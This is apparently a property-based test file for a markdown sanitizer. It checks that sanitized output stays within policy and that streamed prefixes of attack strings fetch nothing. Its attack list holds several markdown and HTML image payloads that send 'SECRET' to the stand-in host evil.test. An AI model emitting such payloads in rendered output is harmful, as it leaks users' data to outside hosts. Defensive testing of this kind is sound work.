import {
  defaultPolicy,
  parseMarkdown,
  revealHidden,
  sanitizeTree,
  toSafeTree,
} from '@glovebox/markdown'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { remarkTree } from './parser/compare.js'
import { outside } from './outside.js'
import { unsafeText } from './unsafeText.js'

describe('any text', () => {
  it('gives a tree inside the policy', { timeout: 60_000 }, () => {
    fc.assert(
      fc.property(unsafeText, fc.boolean(), (unsafe, streaming) => {
        expect(outside(toSafeTree(unsafe, { streaming }))).toEqual([])
      }),
      { numRuns: 400 },
    )
  })

  it('is the same after a second pass', { timeout: 60_000 }, () => {
    fc.assert(
      fc.property(unsafeText, (unsafe) => {
        const safe = toSafeTree(unsafe)
        expect(sanitizeTree(safe, defaultPolicy)).toEqual(safe)
      }),
      { numRuns: 400 },
    )
  })

  it('is revealed without losing a character', () => {
    fc.assert(
      fc.property(unsafeText, (unsafe) => {
        const text = revealHidden(unsafe)
          .map((one) => ('text' in one ? one.text : String.fromCodePoint(...one.codes)))
          .join('')
        expect(text).toBe(unsafe)
      }),
    )
  })

  it('is read as remark reads it', { timeout: 60_000 }, () => {
    fc.assert(
      fc.property(unsafeText, (unsafe) => {
        expect(parseMarkdown(unsafe)).toEqual(remarkTree(unsafe))
      }),
      { numRuns: 200 },
    )
  })
})

describe('any prefix of an attack', () => {
  const attacks = [
    'a ![x](https://evil.test/?q=SECRET "t") b',
    '![x][r] [x][r]\n\n[r]: https://evil.test/?q=SECRET\n\nend',
    '[r]: <https://evil.test/?q=SECRET>\n\n![r]\n\n[![x](https://evil.test/1)](https://evil.test/2)',
    '<img src="https://evil.test/?q=SECRET"> <picture><source srcset=https://evil.test/a></picture>',
    '| a |\n|---|\n| ![x](https://evil.test/?q=SECRET) |\n\n- ![y](//evil.test/b)\n\n> ![z](https://evil.test/c)',
  ]
  it.each(attacks)('of %j fetches nothing', (attack) => {
    const fetched = Array.from({ length: attack.length + 1 }, (_, end) => {
      const tree = toSafeTree(attack.slice(0, end), { streaming: end < attack.length })
      return outside(tree)
    })
    expect(fetched.flat()).toEqual([])
  })
})
